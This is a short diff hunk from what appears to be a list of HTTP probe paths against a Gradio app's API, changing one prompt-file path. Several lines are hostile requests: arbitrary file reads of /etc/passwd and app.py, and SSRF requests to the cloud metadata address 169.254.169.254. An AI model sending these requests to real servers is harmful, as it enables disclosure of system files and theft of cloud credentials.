@@ -123,7 +123,7 @@ GET /monitoring
 GET /monitoring/summary
 GET /gradio_api/file=/etc/passwd
 GET /gradio_api/file=app.py
-GET /gradio_api/file=prompts/tech-assistant.prompting.toml
+GET /gradio_api/file=prompts/tech-assistant.toml
 GET /gradio_api/file=http://169.254.169.254/latest/meta-data
 GET /gradio_api/file/etc/passwd
 GET /gradio_api/proxy=http://169.254.169.254/
